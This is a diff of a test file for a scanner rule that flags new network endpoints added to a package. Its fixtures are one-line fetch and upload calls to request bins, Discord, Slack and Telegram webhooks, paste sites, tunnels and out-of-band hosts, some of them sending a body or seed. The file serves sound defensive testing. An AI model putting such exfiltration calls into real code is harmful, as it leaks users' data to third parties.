@@ -69,7 +69,7 @@ describe('content/new-endpoint', () => {
     const findings = await run("  fetch('https://a.collector.xyz'); fetch('http://203.0.113.7/')")
     expect(findings).toHaveLength(1)
     expect(findings[0]?.severity).toBe('high')
-    expect(findings[0]?.message).toContain('2 new hosts: 203.0.113.7, a.collector.xyz')
+    expect(findings[0]?.message).toContain('2 new hosts: 203.0.113.7 (raw IP), a.collector.xyz')
   })
 
   it.each([
@@ -130,5 +130,87 @@ describe('content/new-endpoint', () => {
     })
     const findings = await rule.check(ctx)
     expect(findings[0]?.severity).toBe(severity)
+  })
+
+  it.each([
+    ['a request bin', "  fetch('https://eo1a2b3c.m.pipedream.net', { body })", 'request bin'],
+    ['a webhook catcher', "  post('https://webhook.cool/at/x1y2', data)", 'request bin'],
+    [
+      'a Discord webhook',
+      "  fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST' })",
+      'chat webhook'
+    ],
+    [
+      'a versioned Discord webhook',
+      "  fetch('https://discordapp.com/api/v10/webhooks/123/abc')",
+      'chat webhook'
+    ],
+    ['a Slack webhook', "  fetch('https://hooks.slack.com/services/T0/B0/x')", 'chat webhook'],
+    [
+      'a Telegram bot',
+      '  fetch(`https://api.telegram.org/bot${token}/sendMessage`)',
+      'chat webhook'
+    ],
+    ['a paste site', "  fetch('https://pastebin.com/raw/abc')", 'paste site'],
+    ['a file drop', "  upload('https://0x0.st', file)", 'paste site'],
+    ['an ngrok tunnel', "  fetch('https://a1b2.ngrok-free.app/c')", 'tunnel'],
+    ['a cloudflare tunnel', "  fetch('https://words-here.trycloudflare.com/c')", 'tunnel'],
+    ['an out-of-band URL', "  fetch('http://abc.oast.fun/x')", 'out-of-band testing'],
+    [
+      'a canary token',
+      "  fetch('http://canarytokens.com/static/x/index.html')",
+      'out-of-band testing'
+    ]
+  ])('grades %s as high, naming its category', async (_name, line, category) => {
+    const findings = await run(line)
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.severity).toBe('high')
+    expect(findings[0]?.message).toContain(`(${category})`)
+  })
+
+  it('keeps an ordinary Discord or Telegram link at medium', async () => {
+    const findings = await run(
+      "  const invite = 'https://discord.com/invite/abc'; const t = 'https://api.telegram.org/file'"
+    )
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.severity).toBe('medium')
+    expect(findings[0]?.message).not.toContain('chat webhook')
+  })
+
+  it('does not count a Discord link in the old version as knowing a Discord webhook', async () => {
+    const previous = { 'index.js': OLD, 'README.md': 'Chat: https://discord.com/invite/abc' }
+    const next = {
+      ...previous,
+      'index.js': withLine("  fetch('https://discord.com/api/webhooks/1/x', { body: seed })")
+    }
+    const findings = await rule.check(changed(previous, next))
+    expect(findings[0]?.severity).toBe('high')
+  })
+
+  it('upgrades a host first seen as a link when a later line posts to its webhook', async () => {
+    const findings = await run(
+      "  log('https://discord.com/invite/abc')\n  fetch('https://discord.com/api/webhooks/1/x')"
+    )
+    expect(findings[0]?.severity).toBe('high')
+    expect(findings[0]?.evidence[0]?.line).toBe(3)
+  })
+
+  it('stays silent on a webhook the previous version already posted to', async () => {
+    const line = "  fetch('https://discord.com/api/webhooks/1/x')"
+    const previous = { 'index.js': withLine(line) }
+    const next = { 'index.js': withLine(line.replace('/1/x', '/2/y')) }
+    expect(await rule.check(changed(previous, next))).toEqual([])
+  })
+
+  it.each([
+    ["fetch('https://discord.com/api/webhooks/1/x')", 'medium'],
+    ["fetch('https://api.acme.io:9999/x')", 'medium'],
+    ["fetch('https://discord.com/invite/x')", 'info']
+  ])('grades an added package: %s -> %s', async (line, severity) => {
+    const ctx = makeContext({
+      change: makeChange({ previousVersion: null }),
+      files: makeFiles({ 'index.js': line })
+    })
+    expect((await rule.check(ctx))[0]?.severity).toBe(severity)
   })
 })
